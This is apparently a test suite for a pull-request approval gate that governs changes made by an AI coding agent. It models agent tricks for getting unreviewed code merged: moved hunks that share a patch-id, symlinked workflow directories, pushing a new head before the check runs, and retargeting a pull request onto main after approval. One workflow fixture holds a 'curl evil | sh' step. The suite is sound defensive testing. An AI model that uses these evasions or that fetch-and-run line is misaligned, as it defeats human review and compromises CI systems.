// The approval gate against tricks on what was approved: the same patch in another place, code owners
// reached through a symlink, the unpinned files endpoint, an unknown author, another base branch, and
// what the action leaves behind. Same harness as identities-and-timeline.test.ts (loopback GitHub API
// over real HTTP), real git where git decides. A deny or approval_required is an acceptable
// fail-closed answer; a wrong `approved` (or a status or output that reads as approved) is a bug.

import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runApprovalGate } from '../../../src/actions/run-approval-gate.js';
import type { ActionsCore } from '../../../src/actions/toolkit.js';
import { collectApprovalGate, type CollectOptions } from '../../../src/app/approval-gate.js';
import { createGitHubClient, type GitHubClient } from '../../../src/adapters/github-client.js';
import type { GateResult } from '../../../src/core/approval-gate.js';
import { GATE_CONTEXT, gateJson, statusFor } from '../../../src/core/approval-report.js';
import { isolateProcessGitConfig, TestRepo } from '../../support/git-repo.js';
import {
  baseRefChangedEvent,
  bot,
  commit,
  diffEntry,
  fakeSha,
  review,
  startGitHubServer,
  user,
  type FakeGitHub,
  type GitHubCommit,
  type GitHubDiffEntry,
  type GitHubReview,
  type GitHubUser,
  type ReviewState,
} from '../../support/github-server.js';
import { pullRequestEvent, webhookExample } from '../../support/webhooks.js';

const REPO = 'acme/widgets';
const N = 13;
const T = { owner: 'acme', repo: 'widgets', pullNumber: N };
const HEAD = fakeSha('bases-head');
const BASE = fakeSha('bases-base');
const POLICY_PATH = '.github/agent-policy.yml';

const agent = bot('coding-agent');
const alice = user('alice'); // write
const bob = user('bob'); // maintain
const carol = user('carol'); // admin; owns .github/ in CODEOWNERS
const dave = user('dave'); // read

function policy(approvals = 'high: { count: 1 }'): string {
  return `version: 1
agents: ["*[bot]", "Copilot", "coding-agent"]
default_tier: high
tiers:
  low: ["docs/**"]
capabilities:
  write_branch: { paths: ["src/**", "docs/**"] }
subjects:
  "coding-agent:pull-request":
    capabilities: [read_repository, write_branch, open_pull_request]
    branches: ["agent/*"]
    repositories: ["acme/widgets"]
approvals:
  ${approvals}
`;
}

let fake: FakeGitHub;
let restoreGit: () => void;
let clock = 0;

beforeAll(() => {
  restoreGit = isolateProcessGitConfig();
});
afterAll(() => restoreGit());

beforeEach(async () => {
  fake = await startGitHubServer();
  fake.addRepo('acme', 'widgets', { branches: { main: BASE } });
  fake.addCollaborator(REPO, alice, 'write');
  fake.addCollaborator(REPO, bob, 'maintain');
  fake.addCollaborator(REPO, carol, 'admin');
  fake.addCollaborator(REPO, dave, 'read');
  fake.addUser(agent);
  clock = 0;
});

afterEach(async () => {
  fake.assertNoViolations();
  await fake.close();
});

function client(): GitHubClient {
  return createGitHubClient({ token: 'ghs_approval_gate_bases', baseUrl: fake.url, timeUnitMs: 1 });
}

const at = () => new Date(Date.UTC(2025, 3, 4, 10, 0, clock++)).toISOString().replace(/\.\d{3}Z$/, 'Z');

function rev(u: GitHubUser | null, state: ReviewState = 'APPROVED', sha: string | null = HEAD): GitHubReview {
  return review(REPO, N, { user: u, state, commit_id: sha, submitted_at: at() });
}

function agentCommit(sha: string, message = 'agent change'): GitHubCommit {
  return commit(REPO, { sha, message, author: { name: 'coding-agent[bot]', email: '1+coding-agent[bot]@users.noreply.github.com', user: agent } });
}

interface PullSetup {
  head?: string;
  base?: string;
  reviews?: GitHubReview[];
  commits?: GitHubCommit[];
  files?: GitHubDiffEntry[];
  policy?: string;
  codeowners?: string;
}

function openPull(s: PullSetup = {}) {
  const head = s.head ?? HEAD;
  const base = s.base ?? BASE;
  const pull = fake.addPull(REPO, N, {
    user: agent,
    head: { sha: head, ref: 'agent/fix' },
    base: { sha: base, ref: 'main' },
    created_at: '2025-04-04T09:00:00Z',
    reviews: s.reviews ?? [],
    commits: s.commits ?? [agentCommit(head)],
    files: s.files ?? [diffEntry(REPO, { filename: 'src/app.ts', ref: head })],
  });
  fake.setFile(REPO, base, POLICY_PATH, s.policy ?? policy());
  if (s.codeowners !== undefined) fake.setFile(REPO, base, '.github/CODEOWNERS', s.codeowners);
  return pull;
}

const gate = (opts: CollectOptions = {}, c: GitHubClient = client()): Promise<GateResult> => collectApprovalGate(c, T, opts);
const codes = (r: GateResult) => r.evaluation.rejected.map((x) => `${x.login}:${x.code}`);

// ---------------------------------------------------------------------------------------------------
describe('attack: keep_on_identical_rebase, what "the same change" means (real git)', () => {
  const KEEP = policy('high: { count: 1, keep_on_identical_rebase: true }');
  // Two blocks whose seven lines around `approve:` are the same: a diff's three lines of context
  // cannot tell them apart, and `git patch-id` drops the hunk headers (the line numbers).
  const ROLES = ['docs', 'prod']
    .map((name) => `  - name: ${name}\n    paths: [${name}/**]\n    settings:\n      a: 1\n      b: 2\n      c: 3\n      approve: false\n      d: 4\n      e: 5\n      f: 6\n`)
    .join('');
  const withApprove = (text: string, which: 'first' | 'last') => {
    const line = '      approve: false\n';
    const i = which === 'first' ? text.indexOf(line) : text.lastIndexOf(line);
    return `${text.slice(0, i)}      approve: true\n${text.slice(i + line.length)}`;
  };
  let repo: TestRepo;
  let base1: string;
  let approvedDocs: string; // the reviewer approved: approve docs
  let moved: string; // the agent's head: the same hunk, in the prod block
  let base2: string; // main changed the same file elsewhere
  let rebasedOverSameFile: string; // approvedDocs rebased onto base2, cleanly

  beforeAll(async () => {
    repo = await TestRepo.init();
    await repo.write(POLICY_PATH, KEEP);
    await repo.write('src/roles.yml', `rules:\n${ROLES}`);
    base1 = await repo.commit('base');
    await repo.checkout('agent/docs', { create: true });
    await repo.write('src/roles.yml', withApprove(`rules:\n${ROLES}`, 'first'));
    approvedDocs = await repo.commit('approve docs', { author: { name: 'coding-agent[bot]', email: 'agent@example.com' } });
    await repo.checkout('agent/prod', { create: true, from: base1 });
    await repo.write('src/roles.yml', withApprove(`rules:\n${ROLES}`, 'last'));
    moved = await repo.commit('approve docs', { author: { name: 'coding-agent[bot]', email: 'agent@example.com' } });
    await repo.checkout('main');
    await repo.write('src/roles.yml', `# roles, reviewed by security\nrules:\n${ROLES}`);
    base2 = await repo.commit('main: a header line in the same file');
    await repo.checkout('agent/rebased', { create: true, from: approvedDocs });
    rebasedOverSameFile = await repo.rebase('main');
    await repo.checkout('main');
  });
  afterAll(async () => repo.cleanup());

  it('the same hunk moved to another block with the same context has the same patch-id, but is another change: the approval is not kept', async () => {
    openPull({ head: moved, base: base1, commits: [agentCommit(moved)], reviews: [rev(alice, 'APPROVED', approvedDocs)], policy: KEEP });
    const r = await gate({ checkout: repo.dir });
    expect(r.tierSource.mode).toBe('git');
    const proof = gateJson(r).identical_rebase.proofs[0];
    expect(proof).toMatchObject({ approvedSha: approvedDocs, headSha: moved, patchIdsEqual: true, sameFiles: false });
    expect(r.decision).toBe('approval_required');
    expect(codes(r)).toEqual(['alice:stale_commit']);
    expect(r.evaluation.rejected[0]!.reason).toMatch(/the same patch-id, but not the same files/);
    expect(r.identicalRebase.notes.join('\n')).toMatch(/patch-id equals the head's; src\/roles\.yml differs/);
  });

  it('a clean rebase over a base that changed the same file is not provably the approved change: re-approval (stricter than patch-id alone)', async () => {
    openPull({ head: rebasedOverSameFile, base: base2, commits: [agentCommit(rebasedOverSameFile)], reviews: [rev(alice, 'APPROVED', approvedDocs)], policy: KEEP });
    const r = await gate({ checkout: repo.dir });
    expect(gateJson(r).identical_rebase.proofs[0]).toMatchObject({ patchIdsEqual: true, sameFiles: false });
    expect(r.decision).toBe('approval_required');
  });
});

// ---------------------------------------------------------------------------------------------------
describe('attack: code owners through a symlink of the base tree (real git)', () => {
  it('.github/workflows is a link to ci/: an edit of ci/deploy.yml is an edit of a workflow, so the owner of /.github/ must approve too', async () => {
    const repo = await TestRepo.init();
    try {
      await repo.write(POLICY_PATH, policy('high: { count: 1, codeowners: true }'));
      await repo.write('.github/CODEOWNERS', '* @alice\n/.github/ @carol\n');
      await repo.write('ci/deploy.yml', 'on: push\njobs: {}\n');
      await repo.symlink('.github/workflows', '../ci');
      const base = await repo.commit('base: workflows live in ci/');
      await repo.write('ci/deploy.yml', 'on: push\njobs: { deploy: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n');
      const head = await repo.commit('agent: edit ci/deploy.yml', { author: { name: 'coding-agent[bot]', email: 'agent@example.com' } });
      openPull({ head, base, commits: [agentCommit(head)], reviews: [rev(alice, 'APPROVED', head)] });
      const r = await gate({ checkout: repo.dir });
      expect(r.tierSource.mode).toBe('git');
      expect(r.facts.highRiskPaths).toEqual(['ci/deploy.yml', '.github/workflows/deploy.yml']);
      expect(r.decision).toBe('approval_required');
      expect(r.evaluation.codeowners).toEqual([
        expect.objectContaining({ path: 'ci/deploy.yml', satisfiedBy: ['alice'] }),
        expect.objectContaining({ path: '.github/workflows/deploy.yml', owners: ['@carol'], satisfiedBy: [] }),
      ]);
    } finally {
      await repo.cleanup();
    }
  });
});

// ---------------------------------------------------------------------------------------------------
describe('attack: the files endpoint is not pinned to a commit', () => {
  const OWNERS = '* @alice\n/.github/ @carol\n';
  const CO = policy('high: { count: 1, codeowners: true }');
  const H2 = fakeSha('bases-pushed-after');
  const src = (ref: string) => Array.from({ length: 300 }, (_, i) => diffEntry(REPO, { filename: `src/f${String(i).padStart(3, '0')}.ts`, ref }));

  it('over 300 files, and the agent pushes before the gate reads them: the files endpoint lists the NEW head\'s files, so a workflow change in the judged head went unseen -> deny', async () => {
    // H1 (judged, approved by alice) changes a workflow that only carol owns, plus 300 source files:
    // the comparison base...H1 shows only 300 of them, so the gate reads the pull request's files.
    const h1Files = [diffEntry(REPO, { filename: '.github/workflows/deploy.yml', ref: HEAD }), ...src(HEAD)];
    const pull = openPull({ files: h1Files, reviews: [rev(alice)], policy: CO, codeowners: OWNERS });
    const payload = fake.eventPull(REPO, N, 'pull_request_review'); // the review event of H1: no counts
    // Before the gate's run reads anything, the agent pushes H2 (the workflow change undone).
    pull.filesAt = { [HEAD]: h1Files };
    pull.commits.push(agentCommit(H2));
    pull.files = src(H2);
    pull.data.head.sha = H2;
    const r = await gate({ pullFromEvent: payload });
    expect(r.evaluation.headSha).toBe(HEAD);
    expect(r.decision).toBe('deny');
    expect(r.problems.join(' ')).toMatch(new RegExp(`head is now ${H2.slice(0, 12)}, not ${HEAD.slice(0, 12)}`));
    expect(statusFor(r).state).toBe('failure');
  });

  it('the same, with the payload counts of a pull_request event and a new head with as many files', async () => {
    const h1Files = [diffEntry(REPO, { filename: '.github/workflows/deploy.yml', ref: HEAD }), ...src(HEAD)];
    const pull = openPull({ files: h1Files, reviews: [rev(alice)], policy: CO, codeowners: OWNERS });
    const payload = fake.eventPull(REPO, N, 'pull_request'); // changed_files 301
    pull.filesAt = { [HEAD]: h1Files };
    pull.commits.push(agentCommit(H2));
    pull.files = [...src(H2), diffEntry(REPO, { filename: 'src/extra.ts', ref: H2 })];
    pull.data.head.sha = H2;
    const r = await gate({ pullFromEvent: payload });
    expect(r.decision).toBe('deny');
  });

  it('when the head has not moved, the files endpoint is read and checked with one request more, and the workflow owner is required', async () => {
    const h1Files = [diffEntry(REPO, { filename: '.github/workflows/deploy.yml', ref: HEAD }), ...src(HEAD)];
    openPull({ files: h1Files, reviews: [rev(alice)], policy: CO, codeowners: OWNERS });
    const r = await gate({ pullFromEvent: fake.eventPull(REPO, N, 'pull_request_review') });
    expect(r.decision).toBe('approval_required');
    expect(r.evaluation.blocking.map((b) => b.reason).join(' ')).toMatch(/\.github\/workflows\/deploy\.yml: needs a qualified approval from @carol/);
    expect(fake.countRequests({ operation: 'GET /repos/{owner}/{repo}/pulls/{pull_number}' })).toBe(1);
  });
});

// ---------------------------------------------------------------------------------------------------
describe('attack: an unknown pull request author', () => {
  it('an event pull request without an author (user null): the author cannot be excluded -> deny, never "nobody is the author"', async () => {
    // The operator opened the pull request for the agent and approves it; with no author known the
    // gate could not tell.
    openPull({ reviews: [rev(alice)] });
    const payload = { ...fake.eventPull(REPO, N, 'pull_request'), user: null };
    const r = await gate({ pullFromEvent: payload });
    expect(r.decision).toBe('deny');
    expect(r.problems.join(' ')).toMatch(/pull request #13 names no author \(no user login\)/);
  });
});

// ---------------------------------------------------------------------------------------------------
describe('attack: an approval binds to the base branch it was given against', () => {
  // The agent pushes an evil commit E to a branch it owns (agent/loose), then a harmless commit on top
  // (the head), and opens the pull request into agent/loose: the reviewer sees one harmless commit
  // (the gate itself asks for the review: it evaluates pull requests into any branch). After the
  // approval the agent retargets the pull request to main: the same head now brings E as well.
  const EVIL = fakeSha('bases-evil-below');
  const retargeted = (reviews: GitHubReview[], changedAt = '2025-04-04T10:30:00Z', automatic = false) => {
    const pull = openPull({
      commits: [agentCommit(EVIL, 'ci: deploy from the agent branch'), agentCommit(HEAD, 'docs: typo')],
      files: [diffEntry(REPO, { filename: '.github/workflows/deploy.yml', ref: HEAD }), diffEntry(REPO, { filename: 'src/app.ts', ref: HEAD })],
      reviews,
    });
    pull.timeline.push(baseRefChangedEvent(REPO, { actor: agent, created_at: changedAt, automatic }));
    return pull;
  };

  it('approved while the pull request targeted the agent\'s branch, then retargeted to main: the approval does not count', async () => {
    retargeted([rev(alice)]); // submitted 10:00:00, retargeted 10:30:00
    const r = await gate({ pullFromEvent: fake.eventPull(REPO, N, 'pull_request') });
    expect(r.decision).toBe('approval_required');
    expect(codes(r)).toEqual(['alice:base_changed']);
    expect(r.evaluation.rejected[0]!.reason).toBe('approved before the base branch was changed (2025-04-04T10:30:00Z): it approved the change against the old base, not this one');
    expect(statusFor(r).state).toBe('pending');
  });

  it("GitHub's own retargeting (automatic_base_change_succeeded, the old base merged and deleted) is a base change too", async () => {
    retargeted([rev(alice)], '2025-04-04T10:30:00Z', true);
    const r = await gate();
    expect(codes(r)).toEqual(['alice:base_changed']);
  });

  it('an approval after the base change counts; the issue events are read once, only because the result would be approved', async () => {
    retargeted([rev(alice, 'COMMENTED')], '2025-04-04T09:30:00Z');
    fake.pull(REPO, N).reviews.push(rev(bob)); // 10:00:01
    const r = await gate();
    expect(r.decision).toBe('approved');
    expect(r.evaluation.counted.map((c) => c.login)).toEqual(['bob']);
    expect(r.waitEvents).toBeDefined();
    expect(fake.countRequests({ operation: 'GET /repos/{owner}/{repo}/issues/{issue_number}/timeline' })).toBe(1);
    expect(r.counter.byPhase.events).toBe(1);
    // Not approved anyway: no events are read.
    fake.resetLog();
    fake.pull(REPO, N).reviews.push(rev(alice, 'CHANGES_REQUESTED'));
    const blocked = await gate();
    expect(blocked.decision).toBe('approval_required');
    expect(fake.countRequests({ operation: 'GET /repos/{owner}/{repo}/issues/{issue_number}/timeline' })).toBe(0);
  });

  it('in the same second as the change, or without a submission time, an approval cannot be placed after it: not counted; with no base change it needs no time', async () => {
    const same = review(REPO, N, { user: alice, state: 'APPROVED', commit_id: HEAD, submitted_at: '2025-04-04T10:30:00Z' });
    const untimed = review(REPO, N, { user: bob, state: 'APPROVED', commit_id: HEAD });
    delete (untimed as { submitted_at?: string }).submitted_at;
    retargeted([same, untimed]);
    const r = await gate();
    expect(codes(r)).toEqual(['alice:base_changed', 'bob:base_changed']);
    expect(r.evaluation.rejected[1]!.reason).toMatch(/has no submission time/);
    fake.pull(REPO, N).timeline.length = 0;
    expect((await gate()).decision).toBe('approved');
  });
});

// ---------------------------------------------------------------------------------------------------
// The action (runApprovalGate) with a recording @actions/core.

interface Recorded {
  core: ActionsCore;
  outputs: Record<string, string>;
  log: string[];
  failed: string[];
}

function recordingCore(inputs: Record<string, string>, opts: { summaryFails?: boolean } = {}): Recorded {
  const r: Recorded = { core: undefined as unknown as ActionsCore, outputs: {}, log: [], failed: [] };
  const summary = {
    addRaw() {
      return summary;
    },
    async write() {
      if (opts.summaryFails) throw new Error('Unable to find environment variable for $GITHUB_STEP_SUMMARY.');
      return summary;
    },
  };
  r.core = {
    getInput: (name: string) => inputs[name] ?? '',
    setOutput: (name: string, value: unknown) => void (r.outputs[name] = String(value)),
    saveState: () => undefined,
    getState: () => '',
    setSecret: () => undefined,
    setFailed: (m: string | Error) => void r.failed.push(String(m)),
    info: (m: string) => void r.log.push(`info ${m}`),
    debug: () => undefined,
    warning: (m: string | Error) => void r.log.push(`warning ${String(m)}`),
    error: (m: string | Error) => void r.log.push(`error ${String(m)}`),
    notice: (m: string | Error) => void r.log.push(`notice ${String(m)}`),
    summary,
  } as unknown as ActionsCore;
  return r;
}

async function runAction(event: 'pull_request' | 'pull_request_review', opts: { summaryFails?: boolean } = {}): Promise<Recorded> {
  const dir = mkdtempSync(join(tmpdir(), 'agent-guard-bases-'));
  const payload = pullRequestEvent({ action: 'opened', owner: 'acme', repo: 'widgets', number: N, baseSha: BASE, headSha: HEAD, headRef: 'agent/fix', author: agent.login });
  if (event === 'pull_request_review') {
    const example = webhookExample('pull_request_review', 'submitted');
    payload.action = 'submitted';
    payload.review = example.review;
    delete payload.number;
  }
  payload.pull_request = fake.eventPull(REPO, N, event);
  const eventPath = join(dir, 'event.json');
  writeFileSync(eventPath, JSON.stringify(payload));
  const rec = recordingCore({ 'github-token': 'ghs_bases_action', 'publish-status': 'true', 'request-reviews': 'false' }, opts);
  await runApprovalGate(rec.core, { GITHUB_API_URL: fake.url, GITHUB_REPOSITORY: REPO, GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: eventPath, RUNNER_TEMP: dir }, { clientOptions: { timeUnitMs: 1 } });
  return rec;
}

const published = () => fake.repo(REPO).statuses.filter((s) => s.data.context === GATE_CONTEXT).map((s) => [s.sha, s.data.state]);

describe('attack: what the action leaves behind', () => {
  it('a crash after the decision (the job summary cannot be written) leaves approved=false and decision=deny, and a failure status over the success', async () => {
    openPull({ reviews: [rev(alice)] });
    const rec = await runAction('pull_request', { summaryFails: true });
    expect(rec.failed.join('\n')).toMatch(/deny \(Unable to find environment variable/);
    expect(rec.outputs.approved).toBe('false');
    expect(rec.outputs.decision).toBe('deny');
    // The success published before the crash is overwritten by the failure (last writer wins).
    expect(published()).toEqual([
      [HEAD, 'success'],
      [HEAD, 'failure'],
    ]);
  });

  it('a status description cut in the middle of an emoji path is not valid text: the dismissal of a code owner\'s approval still replaces the success on the same head', async () => {
    // bob and alice approve; alice is the only owner of src/. The agent picked a file name that puts a
    // two-unit emoji across the 140th character of the description the gate writes when an owner's
    // approval is gone.
    const prefix = `${HEAD.slice(0, 12)} into main: high tier, 1 of 1 approvals: 1 path without code-owner approval: src/`;
    const name = `src/${'x'.repeat(138 - prefix.length)}\u{1F512}.ts`;
    const files = [diffEntry(REPO, { filename: name, ref: HEAD })];
    const pull = openPull({ files, reviews: [rev(bob), rev(alice)], policy: policy('high: { count: 1, codeowners: true }'), codeowners: '/src/ @alice\n' });
    const first = await runAction('pull_request');
    expect(first.outputs.decision).toBe('approved');
    // A maintainer dismisses alice's approval: the gate runs on the review's dismissal, same head.
    pull.reviews[1]!.state = 'DISMISSED';
    const second = await runAction('pull_request_review');
    expect(second.outputs.decision).toBe('approval_required');
    expect(second.log.join('\n')).not.toMatch(/could not be published/);
    expect(published()).toEqual([
      [HEAD, 'success'],
      [HEAD, 'pending'],
    ]);
    const description = fake.repo(REPO).statuses.at(-1)!.data.description!;
    expect([...description].length).toBeLessThanOrEqual(140);
    expect(description.length).toBeLessThanOrEqual(140);
  });
});
